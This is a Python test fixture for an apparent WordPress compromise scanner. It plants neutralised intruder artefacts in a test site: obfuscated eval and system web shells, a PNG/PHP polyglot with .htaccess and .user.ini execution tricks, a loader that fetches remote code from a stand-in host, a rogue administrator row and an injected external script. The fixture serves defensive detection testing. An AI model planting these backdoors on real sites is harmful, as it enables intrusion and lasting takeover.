"""An intruder who leaves a WordPress site with fifteen things, each written here and inert: none of it ever acts."""

from base64 import b64encode
from collections.abc import Sequence
from dataclasses import dataclass

from sentry.domain.finding import FindingClass
from tests.integration.servers.wordpress import WordPress

CONFIRMED, SUSPICIOUS = FindingClass.CONFIRMED, FindingClass.SUSPICIOUS

STOP = "<?php die('an inert sample of the tests');\n"
"""How each file of the intruder begins: whoever calls it gets this, and nothing of what follows runs."""

NEVER = "if (defined('NEVER_DEFINED_BY_THESE_TESTS')) "
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0"
UPLOADS = "wp-content/uploads/2024/05"


@dataclass(frozen=True, slots=True)
class LeftFile:
    """A file that the intruder leaves.

    Attributes:
        path: below the docroot.
        least: it is found at least as bad as that.
        is_added_to: what stands there is kept, and this comes after it.
    """

    path: str
    content: bytes
    least: FindingClass = CONFIRMED
    is_added_to: bool = False


@dataclass(frozen=True, slots=True)
class LeftRow:
    """Something in the database.

    Attributes:
        php: what WordPress is told to do, or SQL where it begins with a word of it.
        place: what the path of the finding begins with.
    """

    sql: str
    place: str
    least: FindingClass = CONFIRMED


def _xored(word: str, key: str) -> str:
    return "".join(f"\\x{ord(one) ^ ord(other):02x}" for one, other in zip(word, key, strict=True))


def _php(code: str) -> bytes:
    return (STOP + code + "\n").encode()


_HIDDEN = b64encode(b"system($_POST['command']); // inert, behind the end of the script").decode()

FILES: Sequence[LeftFile] = (
    LeftFile("wp-content/plugins/akismet/class.cache.php", _php(f"eval(base64_decode('{_HIDDEN}'));")),
    LeftFile(
        "wp-content/themes/twentytwentyone/inc/font.php",
        _php(f"$f = \"{_xored('assert', 'qwerty')}\" ^ 'qwerty'; $f($_POST['q']);"),
    ),
    LeftFile("wp-includes/class-wp-cache-x.php", _php("array_map($_GET['f'], array($_GET['a']));")),
    LeftFile("wp-admin/includes/class-wp-old.php", _php("$a = 'sys' . 'tem'; $a($_REQUEST['c']);")),
    LeftFile("wp-content/plugins/hello-cache.php", _php(f"@include '{UPLOADS}/logo.png';")),
    LeftFile(f"{UPLOADS}/logo.png", PNG + b"<?php " + NEVER.encode() + b"{ eval($_POST['x']); } ?>"),
    LeftFile(f"{UPLOADS}/shell.php", _php("echo shell_exec($_GET['c']);")),
    LeftFile(f"{UPLOADS}/.user.ini", f"auto_prepend_file = {UPLOADS}/logo.png\n".encode()),
    LeftFile(f"{UPLOADS}/.htaccess", b'<FilesMatch "\\.png$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'),
    LeftFile("wp-content/uploads/.favicon.ico", _php("$k = $_COOKIE['k']; @eval(gzinflate(base64_decode($k)));")),
    LeftFile("wp-content/mu-plugins/loader.php", _php("eval(file_get_contents('http://127.0.0.1:9/payload.txt'));")),
    LeftFile(
        "wp-includes/functions.php",
        f"\n{NEVER}{{ @eval(base64_decode($_POST['z'])); }}\n".encode(),
        is_added_to=True,
    ),
)

ROWS: Sequence[LeftRow] = (
    LeftRow(
        "INSERT INTO wp_users (ID, user_login, user_pass, user_email, user_registered) VALUES"
        " (66, 'wp-support1', '5f4dcc3b5aa765d61d8327deb882cf99', 'x', '0000-00-00 00:00:00');"
        "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES"
        " (66, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}')",
        "wp_users ID=66",
    ),
    LeftRow(
        "UPDATE wp_posts SET post_content = CONCAT(post_content, '<script>document.write(unescape("
        '"%3Cscript src=%22https://statistics.example/a.js%22%3E%3C/script%3E"))</script>\') WHERE ID = 1',
        "wp_posts ID=1 ",
    ),
    LeftRow(
        'UPDATE wp_options SET option_value = \'a:2:{i:1700000000;a:1:{s:14:"wp_x9f3a1b7c2d";a:1:{s:32:'
        '"40cd750bba9870f18aada2478b24840a";a:3:{s:8:"schedule";s:6:"hourly";s:4:"args";a:0:{}s:8:"interval";'
        "i:3600;}}}s:7:\"version\";i:2;}' WHERE option_name = 'cron'",
        "wp_options cron wp_x9f3a1b7c2d",
        SUSPICIOUS,
    ),
)


def intrude(site: WordPress) -> None:
    """Leaves everything."""
    for file in FILES:
        before = (site.docroot / file.path).read_bytes() if file.is_added_to else b""
        site.write(file.path, before + file.content)
    for row in ROWS:
        site.sql(row.sql)
